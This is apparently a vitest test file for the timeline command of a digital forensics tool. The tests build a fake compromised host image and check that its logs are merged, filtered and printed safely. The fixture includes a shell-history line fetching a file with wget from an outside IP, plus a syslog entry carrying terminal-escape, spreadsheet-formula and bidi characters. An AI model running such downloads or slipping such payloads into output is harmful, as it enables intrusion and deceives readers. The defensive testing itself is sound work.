/** From a tree to lines on standard output: the command, the threads' work and the index together. */

import { spawnSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, truncateSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { env, execPath } from 'node:process';
import { gzipSync } from 'node:zlib';
import { describe, expect, onTestFinished, test } from 'vitest';
import { recordingSession } from '../../source/commands/case-session.ts';
import { timeline, type TimelineRequest } from '../../source/commands/timeline.ts';
import { Refusal } from '../../source/commands/world.ts';
import { visibleText } from '../../source/core/visible.ts';
import { inlineRunner } from '../../source/tasks/inline.ts';
import type { Runner } from '../../source/tasks/task.ts';
import { built } from '../support/built.ts';
import { literalWorld, type LiteralWorld } from '../support/literal-world.ts';
import { scratch } from '../support/scratch.ts';

const checklists = { stages: [], contacts: [] };

/** New Year in a zone without a name, a log that is packed, words that would clear a screen, and a history. */
function tree(): string {
	const root = join(scratch(), 'victim');
	for (const folder of ['etc', 'var/log', 'root']) mkdirSync(join(root, folder), { recursive: true });
	writeFileSync(join(root, 'etc/passwd'), 'root:x:0:0::/root:/bin/bash\n');
	writeFileSync(join(root, 'var/log/auth.log'), 'Dec 31 23:59:58 web1 sshd[7]: Accepted password for root from 203.0.113.9 port 4022 ssh2\nJan  1 00:00:01 web1 sshd[7]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)\n');
	writeFileSync(join(root, 'var/log/auth.log.1.gz'), gzipSync('Dec 30 10:00:00 web1 sshd[5]: Failed password for root from 203.0.113.9 port 4021 ssh2\n'));
	for (const name of ['auth.log', 'auth.log.1.gz']) utimesSync(join(root, 'var/log', name), new Date('2026-01-01T12:00:00Z'), new Date('2026-01-01T12:00:00Z'));
	writeFileSync(join(root, 'var/log/syslog'), '2025-12-31T23:59:59.500000+00:00 web2 evil\u001b[2J: =1+1, "\u202ex"\n');
	writeFileSync(join(root, 'root/.bash_history'), 'wget http://198.51.100.7/x\n');
	return root;
}

interface Ran extends LiteralWorld {
	readonly status: number;
	readonly lines: readonly string[];
}

async function run(root: string, more: Partial<TimelineRequest> = {}, runner: Runner = inlineRunner(), world = literalWorld(runner)): Promise<Ran> {
	const request: TimelineRequest = { target: { kind: 'image', root: visibleText(root) }, caseFolder: undefined, anew: false, format: 'text', since: undefined, until: undefined, source: undefined, account: undefined, host: undefined, words: undefined, kinds: [], ...more };
	const status = await timeline(request, checklists, world);
	return { ...world, status, lines: world.said.out.trimEnd().split('\n') };
}

/** Temporary folders go here, and what is left of them is seen. */
function temporary(): string {
	const folder = scratch();
	const before = env['TMPDIR'];
	env['TMPDIR'] = folder;
	onTestFinished(() => {
		if (before === undefined) delete env['TMPDIR'];
		else env['TMPDIR'] = before;
	});
	return folder;
}

describe('regain timeline', () => {
	test('prints every log in one order, says what its times stand on, and leaves nothing behind', async () => {
		const root = tree();
		const place = temporary();
		const { status, lines, said } = await run(root);
		expect(lines.filter(line => !line.startsWith('#'))).toEqual([
			'2025-12-30T10:00:00.000000Z  year?  /var/log/auth.log.1.gz  web1  sshd: Failed password for root from 203.0.113.9 port 4021 ssh2',
			'2025-12-31T23:59:58.000000Z  year?  /var/log/auth.log  web1  sshd: Accepted password for root from 203.0.113.9 port 4022 ssh2',
			String.raw`2025-12-31T23:59:59.500000Z         /var/log/syslog  web2  evil\u{1b}[2J: =1+1, "\u{202e}x"`,
			'2026-01-01T00:00:01.000000Z  year?  /var/log/auth.log  web1  sshd: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)',
			'-                                   /root/.bash_history  -  wget http://198.51.100.7/x',
		]);
		expect(lines[0]).toMatch(/^# timeline of .*: 5 entries of 4 logs, 2025-12-30T10:00:00.000000Z to 2026-01-01T00:00:01.000000Z; 1 without a time stand last$/);
		expect(lines[1]).toContain("host's zone (UTC)");
		expect([status, said.errors, readdirSync(place)]).toEqual([0, '', []]);
	});

	test.for<readonly [Partial<TimelineRequest>, number]>([
		[{ since: Date.UTC(2026, 0, 1) }, 1],
		[{ until: Date.UTC(2025, 11, 31) }, 1],
		[{ source: 'auth.log' }, 3],
		[{ account: 'root' }, 4],
		[{ host: '203.0.113.9' }, 2],
		[{ host: 'web2' }, 1],
		[{ words: 'WGET' }, 1],
		[{ kinds: ['login', 'login-failed'] }, 2],
	])('narrowed to %j', async ([filter, count]) => {
		expect((await run(tree(), { ...filter, format: 'json' })).lines.length - 2).toBe(count);
	});

	test('as JSON, CSV and a bodyfile nothing but the form is on standard output', async () => {
		const root = tree();
		const json = (await run(root, { format: 'json' })).lines.map(line => JSON.parse(line) as { readonly type: string });
		expect(json.map(({ type }) => type)).toEqual(['timeline', ...Array<string>(5).fill('entry'), 'ended']);
		expect(json[0]).toMatchObject({ count: 5, timeless: 1, zone: { name: 'UTC' }, problems: [] });
		expect(json.at(-1)).toMatchObject({ how: 'complete', printed: 5, coverage: { counts: { files: 4, records: 5 } } });
		const csv = await run(root, { format: 'csv' });
		expect([csv.lines.length, csv.lines[0]!.split(',').length, csv.said.errors.includes("regain: times are UTC")]).toEqual([6, 17, true]);
		const body = await run(root, { format: 'bodyfile' });
		expect(body.lines.map(line => line.split('|').length)).toEqual([11, 11, 11, 11]);
		expect(body.said.errors).toContain('1 entries have no time that a bodyfile can hold');
	});

	test('what could not be read is said, and is no success', async () => {
		const root = tree();
		writeFileSync(join(root, 'var/log/cut.log.1.gz'), gzipSync('Dec 30 10:00:00 web1 sshd[5]: Failed password for root from 203.0.113.9 port 4021 ssh2\n'.repeat(500)).subarray(0, 80));
		const { status, said } = await run(root);
		expect(status).toBe(3);
		expect(said.errors).toContain('regain: /var/log/cut.log.1.gz: ');
	});

	test('refuses forms and kinds it does not know', async () => {
		await expect(run(tree(), { format: 'xml' })).rejects.toThrow('--format xml is none of text, json, csv, bodyfile');
		await expect(run(tree(), { kinds: ['logon'] })).rejects.toThrow('--kind logon is none of login, ');
	});

	test('stopped, it says so and leaves nothing behind', async () => {
		const root = tree();
		const place = temporary();
		const stopping = new AbortController();
		const runner: Runner = { start: (job, hear) => (stopping.abort(), inlineRunner().start(job, hear)) };
		const world = { ...literalWorld(runner), signal: stopping.signal };
		const stopped = run(root, {}, runner, world);
		await expect(stopped).rejects.toThrow(Refusal);
		expect([readdirSync(place), world.said.out]).toEqual([[], '']);
	});

	test('never puts its folder inside the examined tree, and says where no other place is', async () => {
		const root = tree();
		const before = readdirSync(root).toSorted();
		temporary();
		env['TMPDIR'] = root;
		const { status } = await run(root).catch((error: unknown) => ({ status: (error as Refusal).status }));
		expect([0, 3]).toContain(status);
		expect(readdirSync(root).toSorted()).toEqual(before);
	});
});

describe('with a case', () => {
	test('it is kept, printed again, made anew when asked or when it is damaged', async () => {
		const root = tree();
		const caseFolder = join(scratch(), 'case');
		const first = await run(root, { caseFolder });
		writeFileSync(join(root, 'var/log/syslog'), '2025-12-31T23:59:59.500000+00:00 web2 changed: since\n');
		const again = await run(root, { caseFolder });
		expect([first.said.errors, again.said.out]).toEqual(['', first.said.out]);
		expect(again.said.errors).toMatch(/^regain: this timeline was made 2\d.*Z; --anew reads the logs again\n$/);
		const anew = await run(root, { caseFolder, anew: true, words: 'since' });
		expect([anew.said.errors, anew.lines.filter(line => !line.startsWith('#')).length]).toEqual(['', 1]);
		const [last] = readdirSync(join(caseFolder, 'timeline')).toSorted().toReversed();
		truncateSync(join(caseFolder, 'timeline', last!, 'entries'), 3);
		const healed = await run(root, { caseFolder, words: 'since' });
		expect(healed.said.errors).toBe(`regain: the timeline of ${last!} is not what was written: a file of it is cut. It has to be made anew\n`);
		expect(healed.lines.at(-1)).toContain('changed: since');
		expect(readFileSync(join(caseFolder, 'journal.ndjson'), 'utf8').match(/"type":"timeline-[a-z-]+"/g)).toEqual(['began', 'made', 'began', 'made', 'found-damaged', 'began', 'made'].map(word => `"type":"timeline-${word}"`));
	});

	test('what is known of the clock is said above the times, which stay as they are', async () => {
		const root = tree();
		const caseFolder = join(scratch(), 'case');
		const target = { kind: 'image', root: visibleText(root) } as const;
		const session = await recordingSession(caseFolder, target, checklists, literalWorld());
		const nothing = visibleText('');
		await session.describe({ operator: nothing, organisation: nothing, title: nothing, tracking: [], clockOffset: visibleText('3 min fast'), target });
		await session.close();
		const { lines } = await run(root, { caseFolder, account: 'root', kinds: ['login'] });
		expect(lines.slice(2, 3)).toEqual(['# the clock of the host was off by 3 min fast: times are as it showed them']);
		expect(lines.at(-1)).toMatch(/^2025-12-31T23:59:58/);
	});

	test('a case inside the tree is refused', async () => {
		const root = tree();
		await expect(run(root, { caseFolder: join(root, 'case') })).rejects.toThrow('inside the examined tree');
	});
});

describe('the built program, with its threads', () => {
	test('prints what is printed without any', async () => {
		const root = tree();
		for (const name of ['e', 'd', 'c', 'b', 'a']) writeFileSync(join(root, 'var/log', name), `no form of a log ${name.repeat(name.charCodeAt(0))}`);
		const inline = await run(root, { format: 'json' });
		const { stdout } = spawnSync(execPath, [built(), 'timeline', '--root', root, '--json'], { encoding: 'utf8', env: { ...env, TMPDIR: scratch() } });
		expect(stdout).toBe(inline.said.out);
	});

	test('whoever has heard enough leaves nothing behind', () => {
		const [root, place] = [tree(), scratch()];
		const lines = Array.from({ length: 30_000 }, (_, at) => `2025-12-31T23:59:59.5+00:00 web2 x: ${at} ${'y'.repeat(60)}\n`).join('');
		writeFileSync(join(root, 'var/log/syslog'), lines);
		const { stdout, stderr } = spawnSync('sh', ['-c', '"$0" "$1" timeline --root "$2" | head -1', execPath, built(), root], { encoding: 'utf8', env: { ...env, TMPDIR: place } });
		expect([stdout.split('\n').length, stderr, readdirSync(place)]).toEqual([2, '', []]);
	});
});
